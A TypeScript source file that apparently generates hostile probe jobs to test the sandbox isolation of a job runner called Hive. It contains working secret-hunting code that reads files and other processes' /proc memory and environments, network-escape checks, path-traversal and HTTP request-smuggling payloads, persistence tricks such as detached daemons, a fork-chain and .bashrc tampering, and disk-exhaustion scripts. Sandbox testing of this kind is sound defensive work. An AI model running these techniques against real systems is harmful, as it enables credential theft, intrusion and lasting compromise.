/** The programs of hostile jobs. They run in a worker's container as the job's user and print what they could do. */
import { createHash } from "node:crypto";

/** A program for Node as a shell script; `args` are its arguments. */
export function nodeScript(program: string, args: readonly string[] = []): string {
  const words = args.map((word) => `'${word.replaceAll("'", `'\\''`)}'`).join(" ");
  return `cat > "$TMPDIR/attack.mjs" <<'END-OF-ATTACK'\n${program}\nEND-OF-ATTACK\nnode "$TMPDIR/attack.mjs" ${words}\nrm -f "$TMPDIR/attack.mjs"\n`;
}

/**
 * Looks for secrets in everything a job can read: files, environments, command lines, open files and memory of every
 * process. A log hides what it knows, so the program compares hashes, and tells of every token of Hive's own making by
 * its form. `/tmp/canaries` may bring more hashes while it waits.
 */
export function hunt(secrets: readonly string[], waits: boolean): string {
  const hashes = secrets.map((one) => createHash("sha256").update(one).digest("hex"));
  return nodeScript(HUNT, [JSON.stringify(hashes), waits ? "/tmp/canaries" : ""]);
}

const HUNT = `
import { createHash } from "node:crypto";
import { closeSync, existsSync, lstatSync, openSync, readdirSync, readFileSync, readlinkSync, readSync } from "node:fs";
import { join } from "node:path";
const wanted = new Set(JSON.parse(process.argv[2]));
console.log("HUNTING");
if (process.argv[3]) {
  while (!existsSync(process.argv[3])) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 50);
  for (const one of readFileSync(process.argv[3], "utf8").trim().split("\\n")) wanted.add(one);
}
const found = new Set();
const opened = { environ: 0, mem: 0, fd: 0, files: 0 };
const bytes = Buffer.alloc(1e6);
const sha = (text) => createHash("sha256").update(text).digest("hex");
function judge(place, text) {
  for (const [jwt] of text.matchAll(/eyJ[\\w-]+\\.(eyJ[\\w-]+)\\.[\\w-]+/g)) {
    let claims = {};
    try { claims = JSON.parse(Buffer.from(jwt.split(".")[1], "base64url").toString()); } catch {}
    if (claims.aud && !/llm|egress/.test(claims.aud)) found.add("TOKEN " + claims.aud + " " + place);
  }
  if (/hw1\\.[\\w.-]+\\.[\\w-]{22}\\.[\\w-]{43}/.test(text)) found.add("WORKER-TOKEN " + place);
  for (const word of new Set(text.split(/[^\\w+/:_.-]+/))) {
    if (word.length < 8 || word.length > 4096) continue;
    const forms = [word, ...word.split(":"), ...word.split("=")];
    try { forms.push(...Buffer.from(word, "base64").toString("latin1").split(":")); } catch {}
    for (const form of forms) if (form.length > 7 && wanted.has(sha(form))) found.add("SECRET " + place);
  }
}
function file(place, kind) {
  let fd;
  try { fd = openSync(place, "r"); } catch { return; }
  try {
    judge(place, bytes.toString("latin1", 0, readSync(fd, bytes, 0, bytes.length, 0)));
    opened[kind] += 1;
  } catch {} finally { closeSync(fd); }
}
const skipped = /^\\/(proc|sys|usr\\/(lib|share|include|bin|local\\/lib))(\\/|$)|^\\/opt\\/hive\\/node_modules\\//;
function walk(folder, depth) {
  let names = [];
  try { names = readdirSync(folder); } catch { return; }
  for (const name of names) {
    const path = join(folder, name);
    if (skipped.test(path)) continue;
    try {
      const stat = lstatSync(path);
      if (stat.isDirectory() && depth > 0) walk(path, depth - 1);
      else if (stat.isFile()) file(path, "files");
    } catch {}
  }
}
const me = String(process.pid);
judge("environment", Object.values(process.env).join("\\n"));
for (const pid of readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) {
  let owner = "?";
  try { owner = lstatSync("/proc/" + pid).uid; } catch { continue; }
  const own = owner === process.getuid();
  for (const name of ["environ", "cmdline", "auxv", "maps"]) {
    const before = opened.environ;
    file("/proc/" + pid + "/" + name, "environ");
    if (!own && name !== "cmdline" && opened.environ > before) found.add("OPENED " + name + " of uid " + owner);
  }
  for (const link of ["cwd", "root", "exe", "ns/net"]) {
    try { readlinkSync("/proc/" + pid + "/" + link); if (!own) found.add("FOLLOWED " + link + " of uid " + owner); } catch {}
  }
  try { closeSync(openSync("/proc/" + pid + "/mem", "r")); opened.mem += 1; if (!own) found.add("OPENED mem of uid " + owner); } catch {}
  try {
    for (const fd of readdirSync("/proc/" + pid + "/fd")) {
      if (!own) found.add("LISTED fd of uid " + owner);
      if (pid !== me && lstatSync("/proc/" + pid + "/fd/" + fd)) file("/proc/" + pid + "/fd/" + fd, "fd");
    }
  } catch {}
}
walk("/", 12);
// Folders that may be entered and not listed: from the inside.
const borrowed = readFileSync(".git/objects/info/alternates", "utf8").trim();
for (const place of [process.cwd(), process.env.HOME, process.env.TMPDIR, process.env.HIVE_OUTPUT, borrowed]) {
  for (let at = place; at.length > 1; at = join(at, "..")) walk(at, place === at ? 12 : 2);
}
console.log("LOOKED " + (opened.files > 100 && opened.environ > 2));
for (const one of [...found].sort()) console.log("FOUND " + one);
console.log("HUNTED");
`;

/** Tries to connect to each `host:port` directly, by every name there is, and to look beyond loopback. */
export function direct(targets: readonly string[]): string {
  return nodeScript(DIRECT, [JSON.stringify(targets)]);
}

const DIRECT = `
import { connect } from "node:net";
import { lookup } from "node:dns/promises";
import { networkInterfaces } from "node:os";
import { createSocket } from "node:dgram";
for (const target of JSON.parse(process.argv[2])) {
  const [, host, port] = /^(.*):(\\d+)$/.exec(target);
  const how = await new Promise((done) => {
    const socket = connect({ host: host.replace(/[\\[\\]]/g, ""), port: Number(port), timeout: 3000 });
    socket.once("connect", () => done("CONNECTED"));
    socket.once("timeout", () => done("silent"));
    socket.once("error", (error) => done(error.code));
  });
  console.log(how === "CONNECTED" ? "REACHED " + target : "refused " + target + " " + how);
}
const name = await lookup("example.com").then(() => "RESOLVED", (error) => error.code);
console.log(name === "RESOLVED" ? "REACHED dns" : "refused dns " + name);
const sent = await new Promise((done) => createSocket("udp4").send("x", 53, "8.8.8.8", (error) => done(error ? error.code : "SENT")));
console.log(sent === "SENT" ? "REACHED udp" : "refused udp " + sent);
console.log("interfaces " + Object.keys(networkInterfaces()).join(","));
console.log("TRIED");
process.exit(0);
`;

/**
 * Goes through the proxy a job is given: CONNECT and whole addresses, with its own token. What comes back is printed; a
 * tunnel that opens is spoken through, for an answer of Hive's own API would be the worst.
 */
export function proxied(targets: readonly string[]): string {
  return nodeScript(PROXIED, [JSON.stringify(targets)]);
}

const PROXIED = `
import { request } from "node:http";
const proxy = new URL(process.env.HTTPS_PROXY);
const auth = "Basic " + Buffer.from(proxy.username + ":" + proxy.password).toString("base64");
const ask = (method, path) => new Promise((done) => {
  const call = request({ host: proxy.hostname, port: proxy.port, method, path, headers: { "proxy-authorization": auth }, timeout: 10000 });
  call.once("connect", (answer, socket) => {
    if (answer.statusCode !== 200) { socket.destroy(); return done(answer.statusCode); }
    socket.once("data", (bytes) => done("ANSWERED " + bytes.toString("latin1").slice(0, 40).replace(/\\s+/g, " ")));
    socket.once("close", () => done("closed"));
    socket.setTimeout(3000, () => done("OPEN"));
    socket.write("GET /health HTTP/1.1\\r\\nhost: " + path + "\\r\\n\\r\\n");
  });
  call.once("response", (answer) => { answer.resume(); done(answer.statusCode); });
  call.once("timeout", () => done("silent"));
  call.once("error", (error) => done(error.code));
  call.end();
});
for (const target of JSON.parse(process.argv[2])) {
  console.log("CONNECT " + target + " -> " + await ask("CONNECT", target));
  console.log("GET " + target + " -> " + await ask("GET", "http://" + target + "/v1/jobs"));
}
console.log("TRIED");
process.exit(0);
`;

/** Asks the local relay for everything that is not its business, with every token a job has. */
export function relayed(): string {
  return nodeScript(RELAYED);
}

const RELAYED = `
import { connect } from "node:net";
const proxy = new URL(process.env.HTTPS_PROXY);
const llm = process.env.HIVE_LLM_TOKEN ?? "";
const raw = (text) => new Promise((done) => {
  let got = "";
  const socket = connect(Number(proxy.port), proxy.hostname, () => socket.write(text));
  socket.on("data", (bytes) => { got += bytes.toString("latin1"); });
  socket.setTimeout(2000, () => socket.destroy());
  socket.on("error", () => {});
  socket.on("close", () => done(got));
});
const statuses = (answer) => [...answer.matchAll(/HTTP\\/1\\.1 (\\d{3})/g)].map((one) => one[1]).join(",") || "nothing";
const tokens = [proxy.password, llm];
const paths = ["/v1/jobs", "/v1/worker/heartbeat", "/v1/worker/secrets", "/v1/worker/claim", "/v1/worker/register", "/v1/worker/mirror",
  "/v1/gateway/verify", "/v1/egress/open", "/enqueue", "/health", "/metrics", "/", "/docs", "//v1/jobs", "/llm/../v1/jobs", "/llm/%2e%2e/v1/jobs",
  "/llm/..%2fv1/jobs", "/llm/x/../../v1/worker/secrets", "/LLM/../v1/jobs", "/llm\\\\..\\\\v1\\\\jobs"];
for (const path of paths) {
  for (const token of tokens) {
    for (const method of ["GET", "POST"]) {
      const answer = await raw(method + " " + path + " HTTP/1.1\\r\\nhost: hive\\r\\nauthorization: Bearer " + token + "\\r\\ncontent-type: application/json\\r\\ncontent-length: 2\\r\\nconnection: close\\r\\n\\r\\n{}");
      const status = statuses(answer);
      if (!/^(404|400)$/.test(status)) console.log("PASSED " + method + " " + path + " " + status + " " + answer.slice(-80).replace(/\\s+/g, " "));
    }
  }
}
// Requests inside of requests: a body, or a second length, that another reader takes for a request of its own.
const inner = "GET /v1/jobs HTTP/1.1\\r\\nhost: hive\\r\\nauthorization: Bearer " + proxy.password + "\\r\\n\\r\\n";
const smuggled = [
  "POST /llm/anthropic/v1/messages HTTP/1.1\\r\\nhost: hive\\r\\ncontent-length: 5\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner,
  "POST /llm/anthropic/v1/messages HTTP/1.1\\r\\nhost: hive\\r\\ntransfer-encoding: identity, chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner,
  "GET /llm/x HTTP/1.1\\r\\nhost: hive\\r\\ncontent-length: " + inner.length + "\\r\\nconnection: content-length\\r\\n\\r\\n" + inner,
  "GET /llm/x HTTP/1.1\\r\\nhost: hive\\r\\ncontent-length: 0\\r\\ncontent-length: " + inner.length + "\\r\\n\\r\\n" + inner,
  "GET http://hive/v1/jobs HTTP/1.1\\r\\nhost: hive\\r\\nproxy-authorization: Bearer " + proxy.password + "\\r\\nconnection: close\\r\\n\\r\\n",
  "CONNECT hive:80 HTTP/1.1\\r\\nhost: hive\\r\\nproxy-authorization: Bearer " + proxy.password + "\\r\\n\\r\\n" + inner,
  "CONNECT /v1/jobs HTTP/1.1\\r\\nhost: hive\\r\\n\\r\\n" + inner,
  "GET /llm/x HTTP/1.1\\r\\nhost: hive\\r\\nupgrade: websocket\\r\\nconnection: upgrade\\r\\n\\r\\n" + inner,
];
for (const [at, text] of smuggled.entries()) {
  const answer = await raw(text);
  if (/"jobs"|"items"|HTTP\\/1\\.1 200/.test(answer)) console.log("PASSED smuggled " + at + " " + statuses(answer));
  console.log("smuggled " + at + " " + statuses(answer));
}
console.log("TRIED");
process.exit(0);
`;

/** Everything that a job before this one could have left. Prints a line for each thing; a clean place prints none. */
export const LOOK_AROUND = `
me=$(id -u)
for pid in $(ls /proc | grep -E '^[0-9]+$'); do
  owner=$(stat -c %u /proc/$pid 2>/dev/null) || continue
  [ "$owner" = "$me" ] || continue
  case " $(tr '\\0' ' ' < /proc/$pid/cmdline 2>/dev/null)" in
    *script.sh*|*setpriv*|*prlimit*|*" stat "*|*" tr "*|*" ls "*|*" grep "*|" ") ;;
    *) echo "LEFT process $(tr '\\0' ' ' < /proc/$pid/cmdline 2>/dev/null)" ;;
  esac
done
for folder in "$HOME" "$TMPDIR" /tmp /var/tmp /dev/shm /dev/mqueue; do
  ls -A "$folder" 2>/dev/null | sed "s|^|LEFT $folder/|"
done
find / -xdev \\( -path /proc -o -path "\${PWD%/*/repo}" \\) -prune -o -user "$me" -print 2>/dev/null | sed 's/^/LEFT file /' | head -20
find /workspace /mirrors -path "\${PWD%/*/repo}" -prune -o -user "$me" -print 2>/dev/null | grep -vxE '/workspace/slot-[0-9]+/(home|tmp|workspace)' | sed 's/^/LEFT file /' | head -20
awk -v me="$me" 'NR > 1 && $0 ~ "[[:space:]]" me "[[:space:]]" { print "LEFT ipc " FILENAME " " $0 }' /proc/sysvipc/shm /proc/sysvipc/sem /proc/sysvipc/msg
git status --porcelain | sed 's/^/LEFT change /'
ls .git/hooks 2>/dev/null | grep -v sample | sed 's/^/LEFT hook /'
env | grep -iE 'evil|hostile' | sed 's/^/LEFT variable /'
echo CLEAN-CHECKED
`;

/** Everything that could go on after its job: processes that left, that fork on, and what the kernel keeps. */
export const OUTLIVE = `
(setsid sh -c 'trap "" TERM HUP INT; while :; do sleep 1000; done' </dev/null >/dev/null 2>&1 &)
(nohup setsid env -i /bin/sh -c 'cd /; while :; do sleep 1000; done' </dev/null >/dev/null 2>&1 &)
# One that is never there long enough to be seen: each forks the next and ends.
(setsid python3 -c 'import os
for n in range(20000):
  if os.fork() > 0: os._exit(0)
  os.setsid()
import time; time.sleep(1000)' </dev/null >/dev/null 2>&1 &)
ipcmk -M 4096 >/dev/null; ipcmk -S 3 >/dev/null; ipcmk -Q >/dev/null
python3 -c 'import ctypes; libc = ctypes.CDLL("librt.so.1", use_errno=True); print("queue", libc.mq_open(b"/hostile", 0o102, 0o600, None))'
for place in "$HOME" "$TMPDIR" /tmp /var/tmp /dev/shm; do echo evil > "$place/left-behind" 2>/dev/null; done
echo 'export EVIL=1' > "$HOME/.bashrc"; cp "$HOME/.bashrc" "$HOME/.profile"; mkdir -p "$HOME/.npm" "$HOME/.ssh"; echo x > "$HOME/.npmrc"
python3 -m http.server 4713 --bind 127.0.0.1 </dev/null >/dev/null 2>&1 &
sleep 0.3; echo LEFT-BEHIND`;

/** Files that rm -rf alone does not remove. */
export const STUBBORN = `
cd "$HOME"; mkdir -p locked/in/side; touch locked/in/side/x; chmod 000 locked/in/side; chmod 000 locked/in; chmod 000 locked
touch -- '-rf' '--' "$(printf 'new\\nline')" "$(printf 'bad\\377byte')" ' ' '*' 'a"b' "$(printf '%0250d' 0)"
python3 -c '
import os
for n in range(3000):
  os.mkdir("d"); os.chdir("d")
open("deep", "w").close()'
mkfifo pipe; ln -s / root; ln -s . loop; ln -s loop loop2
cp -r locked /tmp/ 2>/dev/null; mkdir -p /tmp/locked2/in; touch /tmp/locked2/in/x; chmod 000 /tmp/locked2
mkdir /dev/shm/locked; touch /dev/shm/locked/x; chmod 000 /dev/shm/locked
mkdir /tmp/x; touch "/tmp/x/$(printf 'new\\nline')"
echo STUBBORN`;

/** A million empty files, or as many as there may be. */
export const MILLION_FILES = `
cat > "$TMPDIR/million.py" <<'END'
import os
home, made = os.environ["HOME"], 0
try:
    for folder in range(1000):
        os.mkdir(f"{home}/{folder}")
        for name in range(1000):
            os.close(os.open(f"{home}/{folder}/{name}", os.O_CREAT | os.O_WRONLY))
            made += 1
except OSError as error:
    print(error)
print("MADE", made)
END
python3 "$TMPDIR/million.py"`;
